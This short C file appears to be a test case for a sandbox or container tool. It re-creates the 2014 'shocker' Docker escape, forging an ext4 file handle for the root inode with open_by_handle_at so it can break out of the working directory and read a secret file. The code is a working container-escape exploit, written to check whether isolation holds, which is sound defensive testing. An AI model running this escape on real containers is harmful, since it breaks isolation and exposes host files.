// tries: to open the disk's root folder by a handle made up from thin air, and go down from there
// works: on ext4 the root is inode 2, and a handle without a parent is taken
// see: the "shocker" exploit of Docker, 2014
// goal: read
// user: root
#include "../kit.h"

int main(void)
{
	struct { struct file_handle head; unsigned ino, gen; } handle = { { 8, 1 }, 2, 0 };
	int at = MUST(open(env("WORK"), O_RDONLY | O_DIRECTORY));
	int root = MUST(open_by_handle_at(at, &handle.head, O_PATH | O_DIRECTORY));

	return print_from(MUST(openat(root, env("SECRET") + 1, O_RDONLY)));
}
